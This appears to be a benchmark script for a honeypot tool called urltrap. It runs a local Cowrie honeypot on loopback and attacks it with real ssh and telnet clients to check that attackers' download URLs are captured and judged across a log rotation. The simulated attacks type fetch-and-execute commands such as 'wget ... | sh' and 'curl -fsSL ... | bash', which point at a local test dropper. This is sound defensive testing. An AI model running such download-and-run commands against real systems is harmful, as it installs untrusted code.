"""A real Cowrie, attacked with real clients, followed live: are its attackers' URLs recovered, captured and judged?

    python bench/cowrie_tail.py [--venv DIR] [--version 3.1.4]

Installs PyPI's `cowrie` into an environment of its own (or takes the one in DIR), runs it on loopback, and beside it a
whole urltrap with `urltrap tail cowrie` on its log. It is attacked with OpenSSH's `ssh` and with `telnet`; Cowrie turns
its log over in the middle of one of the sessions, at a midnight of its time zone that is chosen to be near, and the
follower is killed and started again. Then the same logs are imported: into an empty data folder, and once more into the
one that followed them. Prints one JSON line and ends with 1 where anything is missing. Everything stays on loopback.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from tests.support.running import Dropper, RunningTrap, elf_stub, eventually

BEFORE = 45
"""Seconds that the first attacks have before Cowrie's midnight, at least."""


class Cowrie:
    """A Cowrie of its own in a folder, both services on loopback, whose day ends within two minutes."""

    def __init__(self, folder: Path, venv: Path) -> None:
        self.folder = folder / "cowrie"
        self.folder.mkdir()
        self.venv = venv
        self.ssh, self.telnet = free_port(), free_port()
        self.log = self.folder / "var/log/cowrie/cowrie.json"
        now = time.time()
        self.midnight = (now + BEFORE) // 60 * 60 + 60
        # POSIX: the zone's name and what is added to its time to get UTC, here so that its midnight is that moment.
        west = int(self.midnight % 86_400) // 60
        zone = f"NEAR{west // 60:02d}:{west % 60:02d}"
        self.env = {
            "PATH": f"{venv / 'bin'}:/usr/bin:/bin",
            "HOME": str(self.folder),
            "TZ": zone,
            "COWRIE_HONEYPOT_TIMEZONE": zone,
            "COWRIE_SSH_LISTEN_ENDPOINTS": f"tcp:{self.ssh}:interface=127.0.0.1",
            "COWRIE_TELNET_ENABLED": "true",
            "COWRIE_TELNET_LISTEN_ENDPOINTS": f"tcp:{self.telnet}:interface=127.0.0.1",
        }
        self.run("init")
        self.run("start")

    def run(self, what: str) -> None:
        # It refuses to run as root: in a name space of its own it is somebody else.
        other = ["unshare", "--user", "--map-user=1000", "--map-group=1000"] if os.geteuid() == 0 else []
        done = subprocess.run(
            [*other, self.venv / "bin" / "cowrie", what], cwd=self.folder, env=self.env, capture_output=True,
            text=True, timeout=60,
        )  # fmt: skip
        if done.returncode:
            raise SystemExit(f"cowrie {what}: {done.stdout}{done.stderr}")

    def wait_ready(self) -> None:
        for port in (self.ssh, self.telnet):
            eventually(lambda port=port: answers(port), f"Cowrie listens on {port}", 60)

    def logs(self) -> list[Path]:
        return sorted(self.log.parent.glob("cowrie.json*"))

    def lines(self) -> list[dict[str, Any]]:
        return [json.loads(line) for log in self.logs() for line in log.read_text().splitlines()]


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def answers(port: int) -> bool:
    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 1):
        return True
    return False


class Talk:
    """A real client on pipes: waits for words, then types."""

    def __init__(self, command: list[str], env: dict[str, str]) -> None:
        self.process = subprocess.Popen(
            command,
            env=env,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            bufsize=0,
        )
        assert self.process.stdout is not None and self.process.stdin is not None
        self.out, self.into = self.process.stdout, self.process.stdin
        os.set_blocking(self.out.fileno(), False)
        self.text = b""

    def until(self, words: bytes) -> None:
        def there() -> bool:
            with contextlib.suppress(BlockingIOError):
                self.text += self.out.read(65536) or b""
            return words in self.text

        eventually(there, f"{words!r} in what the client shows: {self.text[-300:]!r}", 40)
        self.text = self.text.partition(words)[2]

    def say(self, line: str) -> None:
        self.into.write(line.encode() + b"\n")

    def end(self) -> None:
        self.into.close()
        try:
            self.process.wait(20)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()
        self.out.close()


def ssh(trap: RunningTrap, port: int, *command: str) -> list[str]:
    return ["ssh", *trap.ssh_options(), "-p", str(port), "root@127.0.0.1", *command]


@contextlib.contextmanager
def following(trap: RunningTrap, log: Path) -> Iterator[subprocess.Popen[bytes]]:
    """`urltrap tail cowrie` on this log."""
    process = subprocess.Popen(
        [sys.executable, "-m", "urltrap.ops", "tail", "cowrie", str(log), "--sensor", "cowrie-1"],
        env=trap.env, stdout=trap.log, stderr=trap.log,
    )  # fmt: skip
    try:
        yield process
    finally:
        if process.poll() is None:
            process.send_signal(signal.SIGTERM)
            process.wait(20)


def judged(trap: RunningTrap, url: str) -> dict[str, Any]:
    """The URL once it has a verdict that a payload led to."""

    def ask() -> dict[str, Any] | None:
        for row in trap.json("urls"):
            if row["url"] == url and row["sha256"] and row["verdict"] != "unknown":
                return dict(row)
        return None

    return eventually(ask, f"{url} is captured and judged", 60)


def attack(trap: RunningTrap, cowrie: Cowrie, dropper: Dropper) -> dict[str, Any]:
    """All attacks, with what became of each URL and how long after it was typed."""
    found: dict[str, Any] = {}

    def note(way: str, url: str, typed: float) -> None:
        row = judged(trap, url)
        found[way] = {"verdict": row["verdict"], "confidence": row["confidence"],
                      "seconds": round(time.time() - typed, 1)}  # fmt: skip

    with following(trap, cowrie.log) as follower:
        typed = time.time()
        subprocess.run(
            ssh(trap, cowrie.ssh, f"cd /tmp; wget -q {dropper.base}/exec.sh -O- | sh"),
            env=trap.env, stdin=subprocess.DEVNULL, capture_output=True, timeout=60, check=False,
        )  # fmt: skip
        note("ssh, one command", f"{dropper.base}/exec.sh", typed)
        open_session = Talk(ssh(trap, cowrie.ssh, "-tt"), trap.env)
        open_session.until(b"# ")
        typed = time.time()
        open_session.say(f"busybox wget {dropper.base}/before.sh")
        note("ssh, terminal, before the log turns over", f"{dropper.base}/before.sh", typed)
        follower.kill()
    assert time.time() < cowrie.midnight, "the machine is too slow for these attacks before Cowrie's midnight"
    # The follower is away while the log turns over: it finds the rest of the old file and the new one.
    eventually(lambda: time.time() > cowrie.midnight + 1, "Cowrie's midnight", 130)
    typed = time.time()
    open_session.say(f"curl -fsSL {dropper.base}/after.sh | bash")
    eventually(lambda: len(cowrie.logs()) > 1, "Cowrie has turned its log over", 30)
    with following(trap, cowrie.log):
        note("ssh, same terminal, after it", f"{dropper.base}/after.sh", typed)
        open_session.say("exit")
        open_session.end()
        telnet = Talk(["telnet", "127.0.0.1", str(cowrie.telnet)], trap.env)
        telnet.until(b"login: ")
        telnet.say("root")
        telnet.until(b"assword: ")
        telnet.say("letmein")
        telnet.until(b"# ")
        typed = time.time()
        telnet.say(f"(wget {dropper.base}/telnet.sh || curl {dropper.base}/telnet.sh) &")
        note("telnet", f"{dropper.base}/telnet.sh", typed)
        telnet.say("exit")
        telnet.end()
        closed = "cowrie.session.closed"
        eventually(
            lambda: sum(line["eventid"] == closed for line in cowrie.lines()) >= 3, "sessions closed", 30
        )
        eventually(lambda: followed(trap) == len(sessions_of(cowrie)), "all sessions are followed", 30)
    return found


def sessions_of(cowrie: Cowrie) -> set[str]:
    return {line["session"] for line in cowrie.lines() if line["eventid"] == "cowrie.session.connect"}


def followed(trap: RunningTrap) -> int:
    """Sessions of the followed Cowrie that the store has with their end."""
    return sum(row["sensor"] == "cowrie-1" and bool(row["ended"]) for row in trap.json("sessions"))


def imported(trap: RunningTrap, cowrie: Cowrie, folder: Path) -> dict[str, Any]:
    """The same logs by `urltrap import`, into an empty folder and again into the one that followed them."""
    trap.cli("init", str(folder))
    logs = [str(log) for log in cowrie.logs()]
    anew = json.loads(trap.cli("import", "cowrie", *logs, "--data", str(folder), "--json"))
    urls = {row["url"] for row in trap.json("urls")}
    before = followed(trap)
    trap.cli("import", "cowrie", *logs, "--sensor", "cowrie-1", "--json")
    eventually(
        lambda: followed(trap) == before and {row["url"] for row in trap.json("urls")} == urls, "unchanged"
    )
    return dict(anew)


def environment(folder: Path, version: str) -> Path:
    """A virtual environment with Cowrie in it."""
    venv = folder / "venv"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True)
    subprocess.run([venv / "bin" / "pip", "install", "-q", f"cowrie=={version}"], check=True)
    return venv


def main() -> None:
    """Run everything and print."""
    options = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    options.add_argument("--venv", type=Path, help="an environment that has cowrie already")
    options.add_argument("--version", default="3.1.4")
    given = options.parse_args()
    for program in ("ssh", "telnet"):
        if shutil.which(program) is None:
            raise SystemExit(f"{program} is not installed, and this attacks with the real one")
    with tempfile.TemporaryDirectory(prefix="urltrap-cowrie-", dir=os.environ.get("BENCH_DIR")) as name:
        folder = Path(name)
        folder.chmod(0o755)
        venv = given.venv or environment(folder, given.version)
        dropper = Dropper(elf_stub())
        trap = RunningTrap(folder / "trap")
        cowrie = Cowrie(folder, venv)
        try:
            cowrie.wait_ready()
            found = attack(trap, cowrie, dropper)
            lines = cowrie.lines()
            result = {
                "bench": "cowrie_tail", "at": datetime.now(UTC).isoformat(timespec="seconds"),
                "logs": [log.name for log in cowrie.logs()], "lines": len(lines),
                "sessions": len(sessions_of(cowrie)), "urls": found,
                "urls_that_cowrie_names": len({line["url"] for line in lines if line.get("url")}),
                "asked_of_the_dropper": len(dropper.requests), "import": imported(trap, cowrie, folder / "again"),
            }  # fmt: skip
        finally:
            cowrie.run("stop")
            trap.stop()
            dropper.close()
    print(json.dumps(result))


if __name__ == "__main__":
    main()
